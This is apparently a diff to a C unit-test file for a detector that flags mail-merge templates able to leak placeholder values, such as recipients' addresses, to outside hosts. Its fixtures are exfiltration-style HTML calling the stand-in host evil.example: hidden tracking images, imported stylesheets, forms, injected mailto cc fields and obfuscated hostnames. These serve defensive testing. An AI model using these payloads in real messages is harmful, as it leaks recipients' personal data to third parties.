@@ -45,8 +45,18 @@ static const struct row rows[] = {
 	    1, EXPOSURE_NONE, "" },
 	{ "<style>@media (max-width:600px){p{margin:0}}</style><p>{{name}}",
 	    1, EXPOSURE_NONE, "" },
-	{ "<table><tr><td>{{organisation}}</td><td>uni.example</td></tr>", 1,
+	{ "<table><tr><td>{{organisation}}</td>\n<td>uni.example</td></tr>",
+	    1, EXPOSURE_NONE, "" },
+	{ "E-mail:{{address}} Dr.{{name}} {{name}}:10 seats", 0,
 	    EXPOSURE_NONE, "" },
+	{ "<style>p{font-family:\"\\5FAE\\8F6F\"}</style><p>{{name}}</p>",
+	    1, EXPOSURE_NONE, "" },
+	{ "<title>News for {{name}}</title><p>Hello</p>", 1, EXPOSURE_NONE,
+	    "" },
+	{ "<a href=\"mailto:{{unsubscribe_address}}?subject=unsubscribe\">"
+	    "Leave</a>", 1, EXPOSURE_NONE, "" },
+	{ "To leave: <mailto:{{unsubscribe_address}}> or "
+	    "<{{unsubscribe_url}}>.", 0, EXPOSURE_NONE, "" },
 	{ "{{name}}\xe6\xa7\x98\xe3\x80\x81\xe3\x81\x94\xe5\x8f\x82"
 	    "\xe5\x8a\xa0\xe3\x81\x8f\xe3\x81\xa0\xe3\x81\x95\xe3\x81"
 	    "\x84\xe3\x80\x82", 0, EXPOSURE_NONE, "" },
@@ -94,6 +104,8 @@ static const struct row rows[] = {
 	{ "<img src=\"{{unsubscribe_url}}\">", 1, EXPOSURE_MARKUP,
 	    "unsubscribe_url" },
 	{ "<x{{address}}>text</x>", 1, EXPOSURE_MARKUP, "address" },
+	{ "<a href=\"mailto:{{unsubscribe_address}}?subject=x&cc=a@evil."
+	    "example\">Leave</a>", 1, EXPOSURE_MARKUP, "unsubscribe_address" },
 
 	/* A form sends what it holds, a script reads the page. */
 	{ "<form action=//evil.example><p>{{name}}</p></form>", 1,
@@ -112,6 +124,14 @@ static const struct row rows[] = {
 	    "<p>{{address}}</p>", 1, EXPOSURE_ACTIVE, "address" },
 	{ "<link rel=stylesheet href=//evil.example/s.css><p>{{address}}", 1,
 	    EXPOSURE_ACTIVE, "address" },
+	{ "<p>Dear {{name}},</p><select style=\"display:none\"><img src=\""
+	    "http://evil.example/p.gif?a={{address}}\"></select>", 1,
+	    EXPOSURE_ACTIVE, "name" },
+	{ "<select hidden><link rel=stylesheet href=\"https://evil.example/"
+	    "s.css\"></select><p>Your address: {{address}}</p>", 1,
+	    EXPOSURE_ACTIVE, "address" },
+	{ "<style>@IMPORT url(//evil.example/s.css);</style><p>{{address}}",
+	    1, EXPOSURE_ACTIVE, "address" },
 
 	/* Links and addresses, in any text. */
 	{ "Confirm: https://evil.example/?n={{name}}", 0, EXPOSURE_LINK,
@@ -142,6 +162,21 @@ static const struct row rows[] = {
 	    "address" },
 	{ "<p>https://evil.example/?a=<wbr>{{address}}</p>", 1, EXPOSURE_LINK,
 	    "address" },
+	{ "<p>https://evil.example/?a=<x-y>{{address}}</x-y></p>", 1,
+	    EXPOSURE_LINK, "address" },
+	{ "<p>https://evil.example/?a=<div style=display:inline>{{address}}"
+	    "</div></p>", 1, EXPOSURE_LINK, "address" },
+	{ "x)http:evil%2Eexample/?a={{address}}", 0, EXPOSURE_LINK,
+	    "address" },
+	{ "x)mailto:evil%40evil%2Eexample?body={{address}}", 0,
+	    EXPOSURE_LINK, "address" },
+	{ "evil.\xd1\x80\xd1\x84/?a={{address}}", 0, EXPOSURE_LINK,
+	    "address" },
+	{ "<a href=\"mailto:{{unsubscribe_address}}\">x</a> "
+	    "{{unsubscribe_address}}@evil.example", 1, EXPOSURE_LINK,
+	    "unsubscribe_address" },
+	{ "<p>Dear {{name}},</p>\x1b(Bimg src=\"http://evil.example/p.gif?a="
+	    " {{address}}\">", 1, EXPOSURE_UNJUDGED, "" },
 };
 #define NROWS ((int)(sizeof(rows) / sizeof(rows[0])))
 
@@ -210,15 +245,38 @@ START_TEST(too_large_is_unjudged)
 }
 END_TEST
 
-/* A text that writes a marker of its own cannot pass one off. */
-START_TEST(marker_in_text_is_unjudged)
+/* A text that spells a marker, whole or in pieces a parser joins, cannot
+ * pass one off as shown: the markers carry a random nonce. */
+START_TEST(spelled_marker_is_no_help)
 {
-	static const char t[] = "<img src=\"//evil.example/?{{address}}\">"
-	    "hrldmrk0q";
+	static const char *const texts[] = {
+		"<img src=\"//evil.example/?{{address}}\">hrldmrk0q x0q",
+		"<img src=\"//evil.example/?{{address}}\">x<b></b>abc0q",
+	};
 	char name[PLACEHOLDER_NAME_MAX + 1];
+	size_t i;
 
-	ck_assert_int_eq(exposure_find(t, strlen(t), 1, name),
+	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
+		ck_assert_int_eq(exposure_find(texts[i], strlen(texts[i]), 1,
+		    name), EXPOSURE_MARKUP);
+}
+END_TEST
+
+/* One tag with thousands of attributes would take gumbo seconds. */
+START_TEST(many_attributes_is_unjudged)
+{
+	struct buf b;
+	char name[PLACEHOLDER_NAME_MAX + 1];
+	int i;
+
+	buf_init(&b, 1 << 20);
+	buf_adds(&b, "<p>{{name}}</p><img");
+	for (i = 0; i < 5000; i++)
+		buf_printf(&b, " a%d", i);
+	buf_adds(&b, ">");
+	ck_assert_int_eq(exposure_find(b.data, b.len, 1, name),
 	    EXPOSURE_UNJUDGED);
+	buf_free(&b);
 }
 END_TEST
 
@@ -232,7 +290,8 @@ main(void)
 	tcase_add_test(tc, unclosed_is_markup);
 	tcase_add_test(tc, too_deep_is_unjudged);
 	tcase_add_test(tc, too_large_is_unjudged);
-	tcase_add_test(tc, marker_in_text_is_unjudged);
+	tcase_add_test(tc, spelled_marker_is_no_help);
+	tcase_add_test(tc, many_attributes_is_unjudged);
 	suite_add_tcase(s, tc);
 	return unit_run(s);
 }
